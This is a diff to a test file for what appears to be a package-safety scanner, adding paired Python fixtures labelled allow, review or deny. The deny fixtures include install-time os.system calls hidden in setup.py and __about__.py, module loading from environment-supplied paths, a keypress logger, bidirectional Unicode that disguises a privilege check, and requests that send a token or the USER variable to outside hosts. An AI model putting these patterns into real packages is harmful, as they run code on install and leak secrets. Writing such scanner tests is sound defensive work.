@@ -18,6 +18,9 @@ const asks = (names: string): string =>
 const generates = (names: string): string =>
   `import shapes\ndef make(names, extra):\n    rest = ""\n    if extra:\n        rest = ", *, " + ", ".join(extra)\n    lines = [f"def __init__(self, {names}{rest}):"]\n    lines.append("    self.a = a")\n    space = {}\n    exec(compile("\\n".join(lines), "<made>", "exec"), space)\n    return space["__init__"]\nmake("${names}", shapes.fields())\n`;
 
+const loads =
+  'import os\nfrom importlib.util import module_from_spec, spec_from_file_location\nfrom setuptools import setup\nSOURCE = os.path.join(os.path.realpath(os.path.dirname(__file__)), "src")\ndef _load(name, package="pkg"):\n    spec = spec_from_file_location(os.path.join(package, name), os.path.join(SOURCE, package, name))\n    module = module_from_spec(spec)\n    spec.loader.exec_module(module)\n    return module\n';
+
 /** Habits of packages as they are released, each with the closest thing that harms: what is decided of either. */
 const cases: readonly (readonly [string, string | Files, Verdict])[] = [
   ['git by either of its names', asks('["git.cmd", "git.exe"]'), 'allow'],
@@ -207,6 +210,98 @@ const cases: readonly (readonly [string, string | Files, Verdict])[] = [
       'modeling_x.py':
         'import os, requests\nclass Model:\n    def __init__(self, config):\n        self.config = config\n        requests.post(config.url, data={"token": os.environ["HUB_TOKEN"]}, timeout=9)\n',
     },
+    'deny',
+  ],
+  [
+    'a part of a package that is called setup.py, in a project whose own one reads the version',
+    {
+      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'pkg/__init__.py': 'from .logs.setup import Plugin\n' },
+      'setup.py':
+        'import re\nfrom setuptools import setup\nversion = re.search("[0-9.]+", open("pkg/_version.py").read()).group()\nsetup(name="pkg", version=version, packages=["pkg", "pkg.logs"])\n',
+      ...{ 'pkg/_version.py': '__version__ = "1.0"\n', 'pkg/logs/__init__.py': '' },
+      'pkg/logs/setup.py':
+        'class Plugin:\n    def __init__(self, path):\n        names = {}\n        with open(path) as file:\n            exec(compile(file.read(), path, "exec"), names)\n        self.names = names\n',
+    },
+    'allow',
+  ],
+  [
+    'a setup.py in a package that is the project itself',
+    {
+      ...{ '__init__.py': '', 'nodes.py': 'NODE_CLASS_MAPPINGS = {}\n' },
+      'setup.py': `import os\nif __name__ == "__main__":\n    os.system("${command}")\n`,
+    },
+    'deny',
+  ],
+  [
+    'a file of the package that a function of setup.py runs by its path',
+    {
+      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'src/pkg/__init__.py': '' },
+      'src/pkg/__about__.py': '__version__ = "1.0"\n',
+      'setup.py': `${loads}about = _load("__about__.py")\nsetup(name="pkg", version=about.__version__)\n`,
+    },
+    'review',
+  ],
+  [
+    'and one that harms',
+    {
+      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'src/pkg/__init__.py': '' },
+      'src/pkg/__about__.py': `import os\nos.system("${command}")\n__version__ = "1.0"\n`,
+      'setup.py': `${loads}about = _load("__about__.py")\nsetup(name="pkg", version=about.__version__)\n`,
+    },
+    'deny',
+  ],
+  [
+    'and one that the environment names',
+    {
+      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'src/pkg/__init__.py': '' },
+      'src/pkg/__about__.py': '__version__ = "1.0"\n',
+      'setup.py': `${loads}about = _load("__about__.py")\n_load(os.environ["X"])\nsetup(name="pkg", version=about.__version__)\n`,
+    },
+    'deny',
+  ],
+  [
+    'and one that the function is handed on for',
+    {
+      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'src/pkg/__init__.py': '' },
+      'src/pkg/__about__.py': '__version__ = "1.0"\n',
+      'setup.py': `${loads}about = _load("__about__.py")\nlist(map(_load, [os.environ["X"]]))\nsetup(name="pkg", version=about.__version__)\n`,
+    },
+    'deny',
+  ],
+  [
+    'a file in the home folder that is read in one of two ways',
+    'import os\ntry:\n    import tomllib\n    mode = "rb"\nexcept ImportError:\n    mode = "r"\nopen(os.path.expanduser("~/.pkgrc"), mode).read()\n',
+    'allow',
+  ],
+  [
+    'or written in one of them',
+    'import os\ntry:\n    import tomllib\n    mode = "wb"\nexcept ImportError:\n    mode = "r"\nopen(os.path.expanduser("~/.pkgrc"), mode).close()\n',
+    'deny',
+  ],
+  [
+    'the text of the documentation of a library that watches keys',
+    'import keyboard\nTEXT = keyboard.__doc__.replace("\\r", "")\n',
+    'allow',
+  ],
+  ['the keys themselves', 'import keyboard\nkeyboard.on_press(print)\n', 'deny'],
+  [
+    'a table of characters that turn the direction of a line',
+    'NAMES = {\n    "afii61574": "\u202d",\n    "afii61575": "\u202e",\n}\n',
+    'allow',
+  ],
+  [
+    'a direction that is turned before something that is read',
+    'ROLE = "user"\nif ROLE == "\u202e": return_admin = True  # \u2066 check\n',
+    'deny',
+  ],
+  [
+    'the newest version, asked of the index',
+    'import json, urllib.request\nLATEST = json.load(urllib.request.urlopen("https://pypi.org/pypi/pkg/json", timeout=2))["info"]["version"]\n',
+    'review',
+  ],
+  [
+    'the same, and the environment along with it, asked of somebody',
+    'import os, urllib.request\nurllib.request.urlopen("https://pypi.example/pypi/pkg/json?u=" + os.environ["USER"], timeout=2)\n',
     'deny',
   ],
   ['a prompt of its own', { 'prompt.sh': "PS1='$'\nunset PROMPT_COMMAND\n" }, 'allow'],
